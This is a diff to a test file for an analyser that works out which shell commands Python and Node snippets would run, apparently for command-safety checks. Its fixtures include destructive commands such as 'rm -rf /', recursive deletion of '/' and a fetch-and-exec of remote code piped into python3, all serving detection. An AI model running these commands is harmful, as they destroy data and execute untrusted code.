@@ -83,6 +83,7 @@ PYTHON = [
     ("import os; os.system('git {} --{}'.format('reset', 'hard'))", ("git reset --hard",)),
     ("import os; os.system(' '.join(['rm', '-rf', '/']))", ("rm -rf /",)),
     ("exec(\"import os; os.system('ls')\")", ("ls",)),
+    ("import os; run = os.system; run('ls')", ("ls",)),
     ("getattr(__import__('os'), 'system')('id')", ("id",)),
     # files
     ("import shutil; shutil.rmtree('/')", ("rm -r -f /",)),
@@ -115,6 +116,7 @@ PYTHON = [
 ]
 
 PYTHON_INCOMPLETE = [
+    "import os; list(map(os.system, cmds))",
     "import subprocess\nargs = ['ls']\nargs.append('/')\nsubprocess.run(args)",
     "import subprocess\nargs = ['ls']\nargs[0] = 'rm'\nsubprocess.run(args)",
     "import os; os.system(cmd)",
@@ -138,6 +140,13 @@ def test_python_effects(code: str, commands: tuple[str, ...]) -> None:
 @pytest.mark.parametrize("code", PYTHON_INCOMPLETE)
 def test_python_sinks_without_literal_arguments_are_incomplete(code: str) -> None:
     assert analyse("python", code).complete is False
+
+
+def test_code_downloaded_and_run_is_curl_into_python_and_not_known() -> None:
+    effects = analyse(
+        "python", "import urllib.request as u; exec(u.urlopen('https://x.io/i').read())"
+    )
+    assert effects == Effects(("curl -fsSL https://x.io/i | python3",), False)
 
 
 def test_a_literal_beside_an_unknown_is_still_reported() -> None:
@@ -173,6 +182,7 @@ NODE = [
 ]
 
 NODE_INCOMPLETE = [
+    "files.forEach(require('fs').unlinkSync)",
     "const a = ['ls']; a.push('/'); require('child_process').spawnSync('rm', a)",
     "rm -rf /",
     "require('child_process').execSync(process.argv[2])",
